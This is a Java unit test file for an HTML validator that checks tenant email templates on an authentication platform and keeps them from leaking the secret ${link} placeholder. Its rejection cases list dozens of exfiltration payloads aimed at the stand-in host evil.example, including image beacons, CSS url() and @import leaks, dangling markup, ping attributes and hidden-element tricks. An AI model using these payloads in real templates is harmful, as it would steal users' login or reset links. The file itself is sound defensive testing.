/* SPDX-License-Identifier: Apache-2.0 */
package org.lumoauth.platform.messaging.template;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.lumoauth.api.web.ApiException;

class MessageHtmlValidatorTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<p>Hello <b>you</b>.</p><p><a href=\"${link}\">Open</a></p>",
        "<a class='button' href=' ${ link } ' style='color:#fff'>Open</a> or ${link}",
        "<a href=\"${link}\">${link}</a>",
        "<p>Click here:<a href=\"${link}\">${link}</a></p>",
        "<table><tr><td>Link:</td><td>${link}</td></tr></table>",
        "<p style=\"margin:0\">Hello.</p><p style='color:#333'>${link}</p>",
        "<strong>Link: </strong>${link}",
        "<p class='x'>Hello.</p><div id=y><b>${link}</b></div>",
        "<div>Hello.</div>${link}",
        "<style>p { display: block }</style><p>Hello.</p><p> ${link}</p>",
        "<a href=\"https://acme.example/\"><div>Acme</div></a><p>${link}</p>",
        """
        <!DOCTYPE html><!-- ours --><html><head>\
        <meta http-equiv="Content-Type" content="text/html; charset=utf-8">\
        <style>p > a { color: red }</style></head><body bgcolor=#ffffff>\
        <img src="https://acme.example/logo.png" width=60 alt="${tenant_name}"/>\
        <br/>https://acme.example/help<br>${link}</body></html>"""
      })
  void acceptsCompleteLink(String html) {
    assertDoesNotThrow(() -> MessageHtmlValidator.check(html));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=\"https://evil.example/b.gif?x=${link}\">",
        "<img src=\"${link}\">",
        "<a href=\"https://evil.example/r?u=${link}\">Open</a>",
        "<a href='https://evil.example/' title='${link}'>Open</a>",
        "<a href=\"https://evil.example/\">${link}</a>",
        "<a href=\"https://${tenant_name}/\">Open</a>",
        "<p style=\"background:url(https://evil.example/${link})\">x</p>",
        "<div background=\"https://evil.example/${link}\">x</div>",
        "<img src=\"https://evil.example/?\n<p>${link}</p>\">",
        "<img src=https://evil.example/?${link}>",
        "<img src='https://evil.example/? ${link}",
        "<style>a { background: url(https://evil.example/${link}) }</style>",
        "<style>a[href*=abc] { background: url(https://evil.example/abc) }</style>${link}",
        "<style>a\\5bhref*=abc\\5d { color: red }</style>${link}",
        "<style>@IMPORT 'https://evil.example/s.css';</style>${link}",
        "<STYLE>a { color: red }",
        "<link rel=\"stylesheet\" href=\"https://evil.example/s.css\">${link}",
        "<form action=\"https://evil.example/\"><p>${link}</p></form>",
        "<textarea name=\"x\">${link}</textarea>",
        "<script>${link}</script>",
        "<svg><a href=\"${link}\">x</a></svg>",
        "<a href=\"${link}\" ping=\"https://evil.example/\">Open</a>",
        "<a href=\"${link}\" OnClick=\"x()\">Open</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">${link}",
        "<!--[if mso]><a href=\"https://evil.example/?<![endif]-->${link}",
        "<!--> <img src=\"https://evil.example/${link}\"> -->",
        "<!-- ${link} -->",
        "<p/title=\"><img src='https://evil.example/?\">${link}'>",
        "https://evil.example/?u=<b>${link}</b>",
        "https://evil.example/?u=<!-- x -->${link}",
        "https&#58;&#47;&#47;evil&#46;example&#47;${link}",
        "https://evil.example/?u=<ins>${link}</ins>",
        "https://evil.example/?u=<a>${link}</a>",
        "https://evil.example/?u=<del>${link}</del>",
        "https://evil.example/?u=<dfn>${link}</dfn>",
        "https://evil.example/?u=<var>${link}</var>",
        "https://evil.example/?u=<samp>${link}</samp>",
        "https://evil.example/?u=<strike>${link}</strike>",
        "https://evil.example/?u=<label>${link}</label>",
        "https://evil.example/?u=<x-y>${link}</x-y>",
        "${tenant_name }<b>${link}</b>",
        "https://evil.example/?u=<div style='display:inline'>${link}</div>",
        "https://evil.example/?u=<div style='d&#105;splay:inline'>${link}</div>",
        "<p style='display:inline'>https://evil.example/?u=</p>${link}",
        "<style>p{display:inline}</style>https://evil.example/?u=<p>${link}</p>",
        "https://evil.example/?u=<p hidden></p>${link}",
        "https://evil.example/?u=<span hidden> <br></span>${link}",
        "https://evil.example/?u=<span hidden>a b</span>${link}",
        "https://evil.example/?u=<div hidden><p>x</p></div>${link}",
        "https://evil.example/?u=<title> </title>${link}",
        "https://evil.example/?u=<p hidden> <div style='display:inline'>${link}</div></p>",
        "https://evil.example/?u=<td>${link}</td>",
        "https://evil.example/?u=<tr><td>${link}</td></tr>",
        "https://evil.example/?u=<table>${link}</table>",
        "https://evil.example/?u=<table> <b>${link}</b></table>",
        "<table><tr>https://evil.example/?u=<td></td>${link}</tr></table>",
        "<div><table><tr><td>https://evil.example/?u=</div>${link}</td></tr></table>",
        "<h1><h2>x</h2>https://evil.example/?u=</h1>${link}",
        "<a href='https://evil.example/'><table><tr><td></a>${link}</td></tr></table>",
        """
        <a href='https://evil.example/'><table><tr><td>\
        <a href='${link}'>x</a>${link}</td></tr></table></a>""",
        "<div><a href='https://evil.example/'></div></a>${link}",
        "<v:rect href=\"https://evil.example/${link}\"/>",
        "<",
        "<a href=\"${link}\""
      })
  void rejectsHtmlThatMayLeakLink(String html) {
    var refusal = assertThrows(ApiException.class, () -> MessageHtmlValidator.check(html));
    assertEquals("body_html", refusal.details().get("field"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\"\" ",
        "<!--",
        "<style",
        "<p a a a ",
        "${link}",
        "<b>${link} ",
        "<p>${link}x<b hidden>",
        "a.<i hidden>",
        "<td>"
      })
  void validatesLongestHtmlQuickly(String part) {
    String html = part.repeat(50_000 / part.length()) + "<";

    assertTimeoutPreemptively(
        Duration.ofSeconds(10),
        () -> assertThrows(ApiException.class, () -> MessageHtmlValidator.check(html)));
  }
}
